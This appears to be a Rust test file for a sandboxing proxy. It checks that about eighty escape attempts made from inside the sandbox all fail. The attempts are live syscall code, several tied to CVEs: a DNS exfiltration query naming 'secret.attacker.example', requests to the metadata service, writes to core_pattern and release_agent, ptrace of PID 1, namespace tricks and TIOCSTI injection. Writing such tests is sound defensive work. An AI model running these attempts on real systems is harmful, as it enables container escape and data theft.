//! Attempts to get out of a sandbox. Each must fail: what it would reach stands outside, and says so when it is reached.
//!
//! The attempts are made by this very binary, executed inside with [`ATTEMPTS`] as its only test. Those that stand for
//! advisories name them.

use std::fs::{self, File, OpenOptions};
use std::io::{self, Read as _, Write as _};
use std::net::{IpAddr, Ipv6Addr, SocketAddr, TcpListener, TcpStream, UdpSocket};
use std::os::fd::{AsFd as _, AsRawFd as _};
use std::os::linux::net::SocketAddrExt as _;
use std::os::unix::net::{SocketAddr as UnixAddress, UnixDatagram, UnixListener, UnixStream};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use serde::{Deserialize, Serialize};

use crate::sandbox::{Inside, possible};
use crate::stage::curl;

/// Names what is outside to the process inside, which makes the attempts; without it that test does nothing.
const OUTSIDE: &str = "EGRESSCTL_TEST_OUTSIDE";
const INSIDE_TEST: &str = "escapes::attempts_that_are_made_inside";

/// What those outside say to whoever reaches them.
const MARK: &str = "OUTSIDE";

/// How long an attempt waits for an answer that must not come.
const PATIENCE: Duration = Duration::from_millis(500);

/// What stands outside, as it can be tried to be reached.
#[derive(Debug, Serialize, Deserialize)]
struct Outside {
    tcp: u16,
    udp: u16,
    /// Addresses of this machine besides the loopback's.
    addresses: Vec<IpAddr>,
    unix: PathBuf,
    datagrams: PathBuf,
    name: String,
    state: PathBuf,
    test: i32,
    proxy: i32,
    core_pattern: Option<String>,
}

type Attempt = fn(&Outside) -> io::Result<String>;

/// A call of the kernel by its number.
#[allow(unsafe_code)]
fn kernel<const N: usize>(number: i64, arguments: [usize; N]) -> io::Result<String> {
    let mut all = [0; 6];
    all[..N].copy_from_slice(&arguments);
    let [a, b, c, d, e, f] = all;
    // SAFETY: pointers among the arguments are to texts and memory that outlive the call; no call here changes memory that
    // they do not own.
    match unsafe { libc::syscall(number, a, b, c, d, e, f) } {
        -1 => Err(io::Error::last_os_error()),
        found => Ok(format!("the kernel answers {found}")),
    }
}

/// What is said by whoever answers a request, if it is somebody outside.
fn heard(mut stream: impl io::Read + io::Write) -> io::Result<String> {
    stream.write_all(b"GET / HTTP/1.1\r\nhost: localhost\r\n\r\n")?;
    let mut said = Vec::new();
    let mut buffer = [0; 1024];
    while let Ok(read @ 1..) = stream.read(&mut buffer) {
        said.extend(&buffer[..read]);
        if String::from_utf8_lossy(&said).contains(MARK) {
            return Ok(MARK.to_owned());
        }
    }
    Err(io::Error::other("nobody outside answered"))
}

fn tcp(address: IpAddr, port: u16) -> io::Result<String> {
    let stream = TcpStream::connect_timeout(&SocketAddr::new(address, port), PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    heard(stream)
}

fn first(attempts: impl Iterator<Item = io::Result<String>>) -> io::Result<String> {
    let mut last = Err(io::Error::other("there was nothing to be tried"));
    for attempt in attempts {
        if attempt.is_ok() {
            return attempt;
        }
        last = attempt;
    }
    last
}

/// Through the sidecar as a proxy that is asked.
fn asked(request: &str) -> io::Result<String> {
    let proxy = std::env::var("http_proxy").map_err(io::Error::other)?;
    let address = proxy.trim_start_matches("http://").parse::<SocketAddr>().map_err(io::Error::other)?;
    let mut stream = TcpStream::connect_timeout(&address, PATIENCE)?;
    stream.set_read_timeout(Some(PATIENCE))?;
    stream.write_all(request.as_bytes())?;
    heard(stream)
}

fn udp(address: IpAddr, port: u16) -> io::Result<String> {
    let any: IpAddr = if address.is_ipv4() { [0; 4].into() } else { Ipv6Addr::UNSPECIFIED.into() };
    let socket = UdpSocket::bind((any, 0))?;
    socket.set_read_timeout(Some(PATIENCE))?;
    socket.send_to(MARK.as_bytes(), (address, port))?;
    socket.recv(&mut [0; 64]).map(|read| format!("{read} bytes came back"))
}

/// A question for a name whose text would carry something out, to a name server of the attacker's choice.
fn question(server: SocketAddr) -> io::Result<String> {
    let socket = UdpSocket::bind("0.0.0.0:0")?;
    socket.set_read_timeout(Some(PATIENCE))?;
    let mut message = vec![1, 2, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in ["secret", "attacker", "example"] {
        message.push(u8::try_from(label.len()).expect("short"));
        message.extend(label.as_bytes());
    }
    message.extend([0, 0, 16, 0, 1]);
    socket.send_to(&message, server)?;
    let mut answer = [0; 512];
    let read = socket.recv(&mut answer)?;
    // NXDOMAIN is what our own says of names that it does not know, without asking anybody.
    if answer[..read].get(3).is_some_and(|code| code & 0xf == 3) {
        return Err(io::Error::other("there is no such name"));
    }
    Ok(format!("{read} bytes came back"))
}

/// Opens a file for reading; its beginning.
fn read(path: impl AsRef<Path>) -> io::Result<String> {
    let mut buffer = [0; 32];
    let read = File::open(path)?.read(&mut buffer)?;
    Ok(String::from_utf8_lossy(&buffer[..read]).into_owned())
}

fn write(path: impl AsRef<Path>) -> io::Result<String> {
    let mut file = OpenOptions::new().write(true).open(path)?;
    file.write_all(b"|/bin/false").map(|()| "written".to_owned())
}

fn socket(family: i32, kind: i32, protocol: i32) -> io::Result<String> {
    let number = |value: i32| usize::try_from(value).unwrap_or_default();
    kernel(libc::SYS_socket, [number(family), number(kind), number(protocol)])
}

fn namespaces(flags: i32) -> io::Result<String> {
    kernel(libc::SYS_unshare, [usize::try_from(flags).unwrap_or_default()])
}

/// All that is below a directory of the kernel's with this name.
fn named(directory: &str, name: &str) -> Vec<PathBuf> {
    let mut found = Vec::new();
    for entry in fs::read_dir(directory).into_iter().flatten().flatten() {
        if entry.file_name().to_str() == Some(name) {
            found.push(entry.path());
        } else if entry.file_type().is_ok_and(|kind| kind.is_dir()) && entry.path().components().count() < 6 {
            found.extend(named(&entry.path().display().to_string(), name));
        }
    }
    found
}

const LOOPBACK: IpAddr = IpAddr::V4(std::net::Ipv4Addr::LOCALHOST);

#[rustfmt::skip]
const ATTEMPTS: &[(&str, Attempt)] = &[
    // The network.
    ("a service on the loopback outside", |o| tcp(LOOPBACK, o.tcp)),
    ("a service on the loopback outside, IPv6", |o| tcp(Ipv6Addr::LOCALHOST.into(), o.tcp)),
    ("a service on another address of the machine", |o| first(o.addresses.iter().map(|a| tcp(*a, o.tcp)))),
    ("a service on 0.0.0.0", |o| tcp([0; 4].into(), o.tcp)),
    ("the loopback through another of its addresses", |o| tcp([127, 9, 9, 9].into(), o.tcp)),
    ("the metadata service", |_| tcp([169, 254, 169, 254].into(), 80)),
    ("an address that nobody declared", |_| tcp([192, 0, 2, 1].into(), 443)),
    ("an address of IPv6 that nobody declared", |_| tcp("2001:db8::1".parse().map_err(io::Error::other)?, 443)),
    ("a mapped address of the loopback", |o| tcp("::ffff:127.0.0.1".parse().map_err(io::Error::other)?, o.tcp)),
    ("CONNECT to the loopback", |o| asked(&format!("CONNECT 127.0.0.1:{0} HTTP/1.1\r\nhost: 127.0.0.1:{0}\r\n\r\n", o.tcp))),
    ("a request of the sidecar for the loopback", |o| asked(&format!("GET http://127.0.0.1:{0}/ HTTP/1.1\r\nhost: 127.0.0.1:{0}\r\n\r\n", o.tcp))),
    ("a request of the sidecar for localhost", |o| asked(&format!("GET http://localhost:{0}/ HTTP/1.1\r\nhost: localhost:{0}\r\n\r\n", o.tcp))),
    ("SOCKS 5 to the loopback", |o| asked(&format!("\x05\x01\x00\x05\x01\x00\x03\x09localhost{}", String::from_utf8_lossy(&o.tcp.to_be_bytes())))),
    ("UDP to the loopback outside", |o| udp(LOOPBACK, o.udp)),
    ("UDP to another address of the machine", |o| first(o.addresses.iter().map(|a| udp(*a, o.udp)))),
    ("UDP to an address that nobody declared (QUIC)", |_| udp([192, 0, 2, 1].into(), 443)),
    ("UDP over IPv6", |_| udp("2001:db8::1".parse().map_err(io::Error::other)?, 443)),
    ("a name server of the attacker's", |_| question(SocketAddr::from(([192, 0, 2, 53], 53)))),
    ("data in a question to the name server", |_| question(SocketAddr::from(([198, 18, 0, 53], 53)))),
    ("ICMP", |_| socket(libc::AF_INET, libc::SOCK_DGRAM, libc::IPPROTO_ICMP)),
    ("a raw socket", |_| socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_RAW)),
    ("a raw socket of IPv6", |_| socket(libc::AF_INET6, libc::SOCK_RAW, libc::IPPROTO_ICMPV6)),
    ("a packet socket", |_| socket(libc::AF_PACKET, libc::SOCK_DGRAM, 0x0300)),
    ("a socket of the hypervisor (vsock)", |_| socket(libc::AF_VSOCK, libc::SOCK_STREAM, 0)),
    ("a socket of the kernel's ciphers", |_| socket(libc::AF_ALG, libc::SOCK_SEQPACKET, 0)),
    ("Bluetooth", |_| socket(libc::AF_BLUETOOTH, libc::SOCK_RAW, 1)),
    ("a socket by its other number (x32)", |_| kernel(0x4000_0000 | libc::SYS_socket, [libc::AF_VSOCK as usize, 1, 0])),
    ("rules of the kernel's filter", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_NETFILTER)),
    ("events of the kernel's devices", |_| socket(libc::AF_NETLINK, libc::SOCK_RAW, libc::NETLINK_KOBJECT_UEVENT)),
    ("the loopback taken down", |_| loopback_down()),
    ("the settings of the network", |_| write("/proc/sys/net/ipv4/ip_forward")),
    ("a device of the network", |_| read("/dev/net/tun")),
    // Unix sockets, descriptors.
    ("a Unix socket by its path", |o| heard(patient(UnixStream::connect(&o.unix)?)?)),
    ("a Unix socket by the path of the root of a process", |o| heard(patient(UnixStream::connect(Path::new("/proc/1/root").join(o.unix.strip_prefix("/").unwrap_or(&o.unix)))?)?)),
    ("a Unix socket by an abstract name", |o| heard(patient(UnixStream::connect_addr(&UnixAddress::from_abstract_name(&o.name)?)?)?)),
    ("a Unix socket of datagrams", |o| UnixDatagram::unbound()?.send_to(MARK.as_bytes(), &o.datagrams).map(|_| "sent".to_owned())),
    ("the sockets of the machine's services", |_| first(["/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/containerd/containerd.sock", "/run/systemd/resolve/io.systemd.Resolve"].iter().map(|path| UnixStream::connect(path).map(|_| (*path).to_owned())))),
    ("an inherited connection", |_| inherited()),
    // What we keep.
    ("the registry, read", |o| read(o.state.join("registry.db"))),
    ("the registry, written", |o| write(o.state.join("registry.db"))),
    ("the registry by our own command", |o| created(o)),
    ("keys of identities", |o| fs::read_dir(o.state.join("identity")).map(|_| "listed".to_owned())),
    ("the access log", |o| write(o.state.join("log/hot.db"))),
    ("the proxy's admin socket", |o| UnixStream::connect(o.state.join("run/egressgateway.sock")).map(|_| "connected".to_owned())),
    ("the socket that makes sandboxes", |o| UnixStream::connect(o.state.join("run/egressgateway.sandboxes")).map(|_| "connected".to_owned())),
    ("the state directory under another name", |o| fs::rename(&o.state, o.state.with_extension("away")).map(|()| "renamed".to_owned())),
    ("the state directory by the root of a process", |o| read(Path::new("/proc/1/root").join(o.state.strip_prefix("/").unwrap_or(&o.state)).join("registry.db"))),
    // Processes.
    ("a signal to the supervisor's parent", |o| kernel(libc::SYS_kill, [o.test as usize, 0])),
    ("a signal to the proxy", |o| kernel(libc::SYS_kill, [o.proxy as usize, libc::SIGKILL as usize])),
    ("files of processes outside", |o| read(format!("/proc/{}/environ", o.proxy))),
    ("the first process, traced (ptrace)", |_| kernel(libc::SYS_ptrace, [libc::PTRACE_ATTACH as usize, 1, 0, 0])),
    ("the memory of the first process", |_| OpenOptions::new().read(true).write(true).open("/proc/1/mem").map(|_| "open".to_owned())),
    // As root their numbers can be listed, which says nothing; what is behind them must not be had.
    ("the descriptors of the first process", |_| first(fs::read_dir("/proc/1/fd")?.flatten().map(|entry| File::open(entry.path()).map(|_| "open".to_owned())))),
    ("namespaces of the first process", |_| File::open("/proc/1/ns/net").map(|_| "open".to_owned())),
    ("setns into what is open", |_| kernel(libc::SYS_setns, [File::open("/proc/self/ns/net")?.as_raw_fd() as usize, 0])),
    // Namespaces and privileges again (CVE-2022-0185, CVE-2023-32233: faults that such privileges open).
    ("a new user namespace", |_| namespaces(libc::CLONE_NEWUSER)),
    ("a new network namespace", |_| namespaces(libc::CLONE_NEWNET)),
    ("a new mount namespace", |_| namespaces(libc::CLONE_NEWNS)),
    ("a process in a new user namespace", |_| kernel(libc::SYS_clone, [(libc::CLONE_NEWUSER | libc::SIGCHLD) as usize, 0, 0, 0, 0])),
    ("clone3, whose flags no filter sees", |_| kernel(libc::SYS_clone3, [0, 0])),
    ("privileges", |_| capabilities()),
    ("the user root", |_| match kernel(libc::SYS_setuid, [0]) { Ok(_) if rustix::process::geteuid().is_root() && fs::read("/proc/self/uid_map").is_ok_and(|map| map.starts_with(b"         0          0 4294967295")) => Ok("root".to_owned()), Ok(_) => Err(io::Error::other("only of the sandbox")), Err(error) => Err(error) }),
    // Mounts (CVE-2020-15257 and others: ways of containers to the files of the host).
    ("a mount taken away", |o| kernel(libc::SYS_umount2, [text(&o.state).as_ptr() as usize, libc::MNT_DETACH as usize])),
    ("a mount laid above", |_| kernel(libc::SYS_mount, [c"tmpfs".as_ptr() as usize, c"/tmp".as_ptr() as usize, c"tmpfs".as_ptr() as usize, 0, 0])),
    ("settings of the kernel made writable", |_| kernel(libc::SYS_mount, [0, c"/proc/sys".as_ptr() as usize, 0, (libc::MS_REMOUNT | libc::MS_BIND) as usize, 0])),
    ("a copy of the mounts", |_| kernel(libc::SYS_open_tree, [libc::AT_FDCWD as usize, c"/".as_ptr() as usize, 1])),
    ("another root", |_| kernel(libc::SYS_chroot, [c"/tmp".as_ptr() as usize])),
    ("another root of all processes", |_| kernel(libc::SYS_pivot_root, [c"/".as_ptr() as usize, c"/".as_ptr() as usize])),
    ("a file by its handle (CVE-2014-3519)", |_| kernel(libc::SYS_open_by_handle_at, [3, 0, 0])),
    ("a device made", |_| kernel(libc::SYS_mknodat, [libc::AT_FDCWD as usize, c"/tmp/egressctl-escape".as_ptr() as usize, (libc::S_IFBLK | 0o600) as usize, 0x0800])),
    ("the disks", |_| first(["/dev/sda", "/dev/vda", "/dev/nvme0n1", "/dev/mem", "/dev/kmsg", "/dev/kvm"].iter().map(read))),
    // The kernel's helpers (CVE-2022-0492 for the last).
    ("a helper for dumps of memory", |o| match &o.core_pattern { Some(_) => write("/proc/sys/kernel/core_pattern"), None => write("/proc/sys/kernel/modprobe") }),
    ("a helper for modules", |_| write("/proc/sys/kernel/modprobe")),
    ("a helper for devices", |_| write("/sys/kernel/uevent_helper")),
    ("keys that make the kernel act", |_| OpenOptions::new().write(true).open("/proc/sysrq-trigger").map(|_| "open".to_owned())),
    ("a helper for groups of processes that end", |_| first(named("/sys/fs/cgroup", "release_agent").into_iter().map(write))),
    ("a group of processes of our own", |_| first(named("/sys/fs/cgroup", "cgroup.procs").into_iter().filter_map(|path| path.parent().map(|parent| fs::create_dir(parent.join("egressctl-escape")).map(|()| "made".to_owned()))))),
    // Other doors of the kernel.
    ("rings of requests (io_uring)", |_| { let memory = [0u8; 256]; kernel(libc::SYS_io_uring_setup, [8, memory.as_ptr() as usize]) }),
    ("keys of the session", |_| kernel(libc::SYS_keyctl, [0, (-3isize).cast_unsigned(), 0])),
    ("keys added", |_| kernel(libc::SYS_add_key, [c"user".as_ptr() as usize, c"x".as_ptr() as usize, c"y".as_ptr() as usize, 1, (-3isize).cast_unsigned()])),
    ("programs in the kernel (bpf)", |_| kernel(libc::SYS_bpf, [0, 0, 0])),
    ("measurements of the kernel (perf)", |_| kernel(libc::SYS_perf_event_open, [0, 0, 0, 0, 0])),
    ("a module of the kernel", |_| kernel(libc::SYS_init_module, [0, 0, 0])),
    ("another kernel", |_| kernel(libc::SYS_kexec_load, [0, 0, 0, 0])),
    ("faults handled by the program (userfaultfd)", |_| kernel(libc::SYS_userfaultfd, [1])),
    ("keys typed into the terminal (CVE-2017-5226)", |_| kernel(libc::SYS_ioctl, [0, libc::TIOCSTI as usize, c"x".as_ptr() as usize])),
    ("keys typed, with more bits than the kernel reads (CVE-2019-10063)", |_| kernel(libc::SYS_ioctl, [0, libc::TIOCSTI as usize | 1 << 40, c"x".as_ptr() as usize])),
];

fn text(path: &Path) -> std::ffi::CString {
    use std::os::unix::ffi::OsStrExt as _;
    // Kept for the rest of this process.
    std::ffi::CString::new(path.as_os_str().as_bytes()).expect("no zero byte")
}

fn patient(stream: UnixStream) -> io::Result<UnixStream> {
    stream.set_read_timeout(Some(PATIENCE))?;
    Ok(stream)
}

/// A message of netlink that takes the loopback down, and with it the only device.
fn loopback_down() -> io::Result<String> {
    let socket = rustix::net::socket(rustix::net::AddressFamily::NETLINK, rustix::net::SocketType::RAW, None)?;
    let mut message = Vec::new();
    for word in [32u32, 0x0005_0010, 1, 0, 0, 1, 0, 1] {
        message.extend(word.to_ne_bytes());
    }
    rustix::net::send(&socket, &message, rustix::net::SendFlags::empty())?;
    let mut answer = [0; 64];
    rustix::net::recv(&socket, &mut answer[..], rustix::net::RecvFlags::empty())?;
    let code = i32::from_ne_bytes(answer[16..20].try_into().map_err(io::Error::other)?);
    if code == 0 { Ok("it is down".to_owned()) } else { Err(io::Error::from_raw_os_error(-code)) }
}

/// A descriptor besides the three customary ones that is a socket.
fn inherited() -> io::Result<String> {
    let entries = fs::read_dir("/proc/self/fd")?.flatten();
    let mut links = entries.filter_map(|entry| Some((entry.file_name(), fs::read_link(entry.path()).ok()?)));
    let found = links.find(|(_, link)| link.to_string_lossy().starts_with("socket:"));
    found.map(|(name, _)| format!("descriptor {}", name.display())).ok_or(io::Error::other("there is none"))
}

fn capabilities() -> io::Result<String> {
    let status = fs::read_to_string("/proc/self/status")?;
    let held = status.lines().filter(|line| line.starts_with("Cap")).any(|line| !line.ends_with("0000000000000000"));
    if held {
        return Ok("there are some".to_owned());
    }
    kernel(libc::SYS_prctl, [libc::PR_CAP_AMBIENT as usize, libc::PR_CAP_AMBIENT_RAISE as usize, 21, 0, 0])
}

/// What our own command can change from inside.
fn created(outside: &Outside) -> io::Result<String> {
    let manifest = "apiVersion: v1\nkind: Namespace\nmetadata: {name: escaped}\n";
    let mut command = std::process::Command::new(env!("CARGO_BIN_EXE_egressctl"));
    command.args(["create", "-f", "-", "--state-dir"]).arg(&outside.state);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::null()).stderr(Stdio::null()).spawn()?;
    child.stdin.take().expect("piped").write_all(manifest.as_bytes())?;
    if child.wait()?.success() { Ok("created".to_owned()) } else { Err(io::Error::other("it failed")) }
}

#[test]
fn attempts_that_are_made_inside() {
    let Ok(outside) = std::env::var(OUTSIDE) else { return };
    let outside: Outside = serde_json::from_str(&outside).expect("what is outside");
    for (name, attempt) in ATTEMPTS {
        match attempt(&outside) {
            Ok(how) => println!("\nOUT\t{name}\t{how}"),
            Err(why) => println!("\nheld\t{name}\t{why}"),
        }
    }
}

/// Counts who comes.
#[derive(Debug, Default, Clone)]
struct Visitors(Arc<AtomicUsize>);

impl Visitors {
    fn greet(&self, mut stream: impl io::Write) {
        self.0.fetch_add(1, Ordering::SeqCst);
        let _ = stream.write_all(MARK.as_bytes());
    }

    fn count(&self) -> usize {
        self.0.load(Ordering::SeqCst)
    }
}

/// Services outside, each with its own thread; they end with the process.
fn services(inside: &Inside) -> (Outside, Visitors) {
    let visitors = Visitors::default();
    let tcp = TcpListener::bind("[::]:0").or_else(|_| TcpListener::bind("0.0.0.0:0")).expect("a free port");
    let udp = UdpSocket::bind("[::]:0").or_else(|_| UdpSocket::bind("0.0.0.0:0")).expect("a free port");
    let path = inside.scene.state().with_file_name("docker.sock");
    let datagrams = inside.scene.state().with_file_name("log.sock");
    let name = format!("egressctl-test-{}", std::process::id());
    let unix = UnixListener::bind(&path).expect("room");
    let log = UnixDatagram::bind(&datagrams).expect("room");
    let hidden = UnixListener::bind_addr(&UnixAddress::from_abstract_name(&name).expect("a name")).expect("room");
    let ports = (tcp.local_addr().expect("bound").port(), udp.local_addr().expect("bound").port());
    let came = visitors.clone();
    std::thread::spawn(move || tcp.incoming().flatten().for_each(|stream| came.greet(stream)));
    for listener in [unix, hidden] {
        let came = visitors.clone();
        std::thread::spawn(move || listener.incoming().flatten().for_each(|stream| came.greet(stream)));
    }
    let came = visitors.clone();
    std::thread::spawn(move || {
        while udp.recv(&mut [0; 64]).is_ok() {
            came.greet(io::sink())
        }
    });
    let came = visitors.clone();
    std::thread::spawn(move || {
        while log.recv(&mut [0; 64]).is_ok() {
            came.greet(io::sink())
        }
    });
    // The address that this machine would call from; nothing is sent.
    let own = UdpSocket::bind("0.0.0.0:0")
        .and_then(|socket| socket.connect("192.0.2.1:9").and_then(|()| socket.local_addr()));
    let outside = Outside {
        tcp: ports.0,
        udp: ports.1,
        addresses: own.iter().map(SocketAddr::ip).collect(),
        unix: path,
        datagrams,
        name,
        state: inside.scene.state(),
        test: std::process::id().cast_signed(),
        proxy: inside.proxy.pid().cast_signed(),
        core_pattern: fs::read_to_string("/proc/sys/kernel/core_pattern").ok(),
    };
    (outside, visitors)
}

#[test]
fn nothing_that_is_tried_inside_a_sandbox_reaches_anything_outside() {
    if !possible() {
        return;
    }
    let inside = Inside::new("");
    let (outside, visitors) = services(&inside);
    assert!(tcp(LOOPBACK, outside.tcp).is_ok() && visitors.count() == 1, "they can be reached from here");
    // A connection that is left open for whoever is started.
    let connection = TcpStream::connect((LOOPBACK, outside.tcp)).expect("it listens");
    rustix::io::fcntl_setfd(connection.as_fd(), rustix::io::FdFlags::empty()).expect("a descriptor");
    crate::stage::until("both have come", || visitors.count() == 2);
    let test = std::env::current_exe().expect("a path");
    let mut command = inside.exec(&[test.to_str().expect("plain"), "--exact", INSIDE_TEST, "--nocapture"]);
    let output = command.env(OUTSIDE, serde_json::to_string(&outside).expect("JSON")).output().expect("it was built");
    drop(connection);
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    let out: Vec<&str> = said.lines().filter(|line| line.starts_with("OUT\t")).collect();
    assert!(out.is_empty(), "these got through:\n{}\nof all:\n{said}", out.join("\n"));
    let held = said.lines().filter(|line| line.starts_with("held\t")).count();
    assert!(held == ATTEMPTS.len() && held >= 25, "{held} of {} were made:\n{said}\n{output:?}", ATTEMPTS.len());
    assert_eq!(visitors.count(), 2, "somebody outside was reached:\n{said}");
    assert_eq!(fs::read_to_string("/proc/sys/kernel/core_pattern").ok(), outside.core_pattern);
    assert!(!inside.scene.ok(&["get", "namespaces"]).contains("escaped"));
    assert_eq!(inside.bash("echo fine").0, "fine\n", "the proxy still runs");
}

#[test]
fn a_working_directory_that_is_closed_off_cannot_be_stood_in() {
    if !possible() {
        return;
    }
    let inside = Inside::new("");
    let mut command = inside.exec(&["bash", "-c", "ls; cat registry.db"]);
    let output = command.current_dir(inside.scene.state()).output().expect("it was built");
    let told = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(!output.status.success() && output.stdout.is_empty(), "{told}");
    // Nor is a directory passed on, from which every path of the outside could be opened.
    let mut command = inside.exec(&["bash", "-c", "ls -l /proc/self/fd/0/"]);
    let directory = File::open(inside.scene.state()).expect("a directory");
    let output = command.stdin(Stdio::from(directory)).output().expect("it was built");
    assert!(!output.status.success() && output.stdout.is_empty(), "{output:?}");
}

/// Whether the kernel can tell Unix sockets of the sandbox from others by their paths (Landlock's version 9).
fn tells_sockets_apart() -> bool {
    const VERSION: usize = 1;
    let found = kernel(libc::SYS_landlock_create_ruleset, [0, 0, VERSION]);
    let version = found.ok().and_then(|found| found.rsplit(' ').next()?.parse::<u32>().ok());
    version.is_some_and(|version| version >= 9)
}

#[test]
fn a_unix_socket_that_appears_later_is_closed_where_the_kernel_can_and_those_made_inside_are_open() {
    let (Some(_), true) = (curl(), possible()) else { return };
    let inside = Inside::new("");
    let path = inside.scene.state().with_file_name("late.sock");
    let line = format!(
        "echo running; read -r _; curl -s --max-time 20 --unix-socket {0} http://localhost/; echo $?; \
         mkdir {0}.a {0}.b && echo moved >{0}.a/x && mv {0}.a/x {0}.b/y && cat {0}.b/y",
        path.display()
    );
    let mut command = inside.exec(&["bash", "-c", &line]);
    let mut child = command.stdin(Stdio::piped()).stdout(Stdio::piped()).spawn().expect("it was built");
    let mut said = io::BufReader::new(child.stdout.take().expect("piped"));
    let mut lines = String::new();
    io::BufRead::read_line(&mut said, &mut lines).expect("it runs");
    let late = UnixListener::bind(&path).expect("room");
    let visitors = Visitors::default();
    let came = visitors.clone();
    std::thread::spawn(move || late.incoming().flatten().for_each(|stream| came.greet(stream)));
    child.stdin.take().expect("piped").write_all(b"\n").expect("it reads");
    said.read_to_string(&mut lines).expect("text");
    assert!(lines.ends_with("moved\n") && child.wait().expect("a child").success(), "{lines}");
    if tells_sockets_apart() {
        assert_eq!(visitors.count(), 0, "{lines}");
    } else {
        eprintln!("not tested: this kernel cannot close Unix sockets that appear later (Linux 7.1 can)");
    }
}

#[test]
fn with_a_private_tmp_nothing_of_others_is_there_and_nothing_of_the_program_stays() {
    if !possible() {
        return;
    }
    let inside = Inside::new("");
    let line = "ls -A /tmp /var/tmp; echo mine >/tmp/egressctl-private && cat /tmp/egressctl-private";
    let arguments = ["exec", "--private-tmp", "deployment/sleep", "--", "bash", "-c", line];
    let output = inside.scene.command(&arguments).current_dir("/").output().expect("it was built");
    let said = String::from_utf8_lossy(&output.stdout).into_owned();
    assert_eq!(said, "/tmp:\n\n/var/tmp:\nmine\n", "{output:?}");
    assert!(!Path::new("/tmp/egressctl-private").exists());
}
